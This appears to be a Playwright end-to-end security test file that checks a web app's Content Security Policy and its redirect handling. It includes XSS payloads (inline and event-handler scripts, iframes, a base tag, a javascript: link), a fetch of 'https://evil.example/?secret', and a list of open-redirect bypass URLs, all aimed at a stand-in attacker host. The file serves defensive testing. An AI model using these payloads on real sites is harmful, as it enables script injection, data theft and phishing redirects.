import { expect, type Page } from '@playwright/test'
import { registerMember, signIn } from './member.ts'
import { chooseAccount, somebodyNew } from './people.ts'
import { loaded, seen } from './screen.ts'
import { test } from './stage.ts'

test.use({ locale: 'en-US' })

interface Watched extends Window {
  /** Set by any script that must not run. */
  wasRun?: string[]
  refused?: string[]
}

/** Makes a page record which directives of its policy blocked something. */
async function watchPolicy(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const watched: Watched = window
    watched.refused = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      watched.refused?.push(effectiveDirective)
    })
  })
}

const refusedBy = (page: Page) => page.evaluate(() => [...new Set((window as Watched).refused)].sort())
const wasRun = (page: Page) => page.evaluate(() => (window as Watched).wasRun ?? [])

const evil = 'https://evil.example'
const run = (what: string) => `(window.wasRun ??= []).push('${what}')`

/** Markup that an attacker who could write into the pages would use. */
const written = `
  <script>${run('inline script')}</script>
  <script src="${evil}/x.js"></script>
  <script src="data:text/javascript,${run('data')}"></script>
  <script type="module">${run('module')}</script>
  <img src="/nowhere.png" onerror="${run('handler')}">
  <img src="${evil}/pixel.png">
  <svg onload="${run('svg')}"></svg>
  <iframe srcdoc="<script>parent.wasRun = ['frame']</script>"></iframe>
  <iframe src="${evil}"></iframe>
  <object data="${evil}/x"></object>
  <style>body { background: url(${evil}/style.png) }</style>
  <link rel="stylesheet" href="${evil}/x.css">
  <base href="${evil}/">
  <a id="trap" href="javascript:${run('address')}">trap</a>
  <form id="form" action="${evil}/form" method="post"></form>`

test('content written by others is never executed in a page', { tag: '@desk' }, async ({ page, noise }) => {
  noise.expect(/Content Security Policy|requires 'Trusted/, /^404 for .*nowhere|Failed to load resource/)
  // The browser also reports blocked requests that it never sent, with the reason.
  noise.expect(/^a request to https:\/\/evil\.example/)
  const reasons: (string | undefined)[] = []
  page.on('requestfailed', (request) => {
    if (request.url().startsWith(evil)) reasons.push(request.failure()?.errorText)
  })
  await watchPolicy(page)

  await test.step('injected as HTML, under our own headers', async () => {
    await page.route('**/login', async (route) => {
      const answer = await route.fetch()
      const body = (await answer.text()).replace('</body>', `${written}</body>`)
      await route.fulfill({ response: answer, body })
    })
    await page.goto('/login')
    await expect(page.getByText('Sign in with Google')).toBeVisible()
    await page.evaluate(() => {
      document.querySelector<HTMLElement>('#trap')?.click()
      document.querySelector<HTMLFormElement>('#form')?.submit()
    })
    await expect
      .poll(() => refusedBy(page))
      .toEqual(
        expect.arrayContaining([
          'base-uri',
          'form-action',
          'frame-src',
          'img-src',
          'object-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-elem',
        ]),
      )
    expect(await wasRun(page)).toEqual([])
    expect(new URL(page.url()).pathname).toBe('/login')
    expect(new Set(reasons)).toEqual(new Set(['csp']))
    await page.unroute('**/login')
  })

  await test.step('inserted by a script of ours', async () => {
    await page.goto('/login')
    await expect(page.getByText('Sign in with Google')).toBeVisible()
    const refusals = await page.evaluate(async (from) => {
      const mark = 'window.wasRun = ["text"]'
      const attempts: Record<string, () => unknown> = {
        html: () => {
          document.body.innerHTML = `<img src=x onerror='${mark}'>`
        },
        adjacent: () => document.body.insertAdjacentHTML('beforeend', `<img src=x onerror='${mark}'>`),
        script: () => {
          const script = document.createElement('script')
          script.src = `${from}/x.js`
          document.body.append(script)
        },
        function: () => new Function(mark)(),
        document: () => new DOMParser().parseFromString('<p>', 'text/html'),
        worker: () => new Worker(`${from}/worker.js`),
      }
      const refused: string[] = []
      for (const [name, attempt] of Object.entries(attempts)) {
        // Runs in a timer, because code evaluated by the browser's tools may do what pages may not.
        await new Promise<void>((resolve) => {
          setTimeout(() => {
            try {
              attempt()
            } catch {
              refused.push(name)
            }
            resolve()
          })
        })
      }
      const leaves = [fetch(`${from}/?secret`), fetch(`${from}/`, { mode: 'no-cors' })]
      for (const { status } of await Promise.allSettled(leaves)) refused.push(status)
      return refused
    }, evil)
    expect(refusals).toEqual([
      ...['html', 'adjacent', 'script', 'function', 'document', 'worker'],
      ...['rejected', 'rejected'],
    ])
    await expect
      .poll(() => refusedBy(page))
      .toEqual(expect.arrayContaining(['connect-src', 'require-trusted-types-for']))
    expect(await wasRun(page)).toEqual([])
  })
})

/** Addresses of other sites, in forms that have fooled other apps. */
const elsewhere = [
  'https://evil.example/',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example/',
  '/\t/evil.example/',
  '/..//evil.example/',
  'https:evil.example',
  'javascript:window.wasRun=["address"]',
  'data:text/html,<script>parent.wasRun=1</script>',
]
const names = ['redirect', 'redirect_to', 'redirect_uri', 'redirectTo', 'next', 'from', 'return_to', 'url']

test('no address redirects to another site', { tag: '@desk' }, async ({ page, context, product, noise }) => {
  const person = somebodyNew('Ana García')
  const ana = await registerMember(product, person, { language: 'en' })
  const isHere = () => expect(new URL(page.url()).origin).toBe(product.url)

  await test.step('after a sign-in, whatever address was stored', async () => {
    for (const left of elsewhere.filter((path) => path.startsWith('/'))) {
      await page.goto('/login')
      await page.evaluate((path) => {
        sessionStorage.setItem('redirect_after_login', path)
        history.replaceState({ usr: { from: path } }, '')
      }, left)
      await page.reload()
      await page.getByText('Sign in with Google').click()
      await chooseAccount(page, person)
      await expect(page).toHaveURL(`${product.url}/dashboard`)
      // Leaving while the dashboard is still loading would get its requests refused.
      await loaded(page)
      await context.setStorageState({ cookies: [], origins: [] })
      await page.goto('about:blank')
    }
  })

  await test.step('by a parameter, while signed in', async () => {
    await signIn(context, product, ana)
    for (const [at, target] of elsewhere.entries()) {
      const query = new URLSearchParams(names.map((name) => [name, target]))
      await page.goto(`${['/login', '/', '/register'][at % 3]}?${query}`)
      await expect(page).toHaveURL(`${product.url}/dashboard`)
    }
    await expect(seen(page.getByRole('heading', { level: 1 }))).toBeVisible()
  })

  await test.step('by a path', async () => {
    for (const path of ['//evil.example', '/%2F%2Fevil.example', '/%5Cevil.example', '/.//evil.example/..']) {
      const answer = await fetch(`${product.url}${path}`, { redirect: 'manual' })
      expect([200, 404], path).toContain(answer.status)
      expect(answer.headers.has('location'), path).toBe(false)
    }
  })

  noise.expect(400, 404)
  await test.step('by the parameters of the Google callback', async () => {
    const query = new URLSearchParams({ code: 'x', state: 'x', iss: 'https://evil.example' })
    for (const name of names) query.set(name, 'https://evil.example/')
    await page.goto(`/auth/callback?${query}`)
    isHere()
    expect(await wasRun(page)).toEqual([])
  })
})
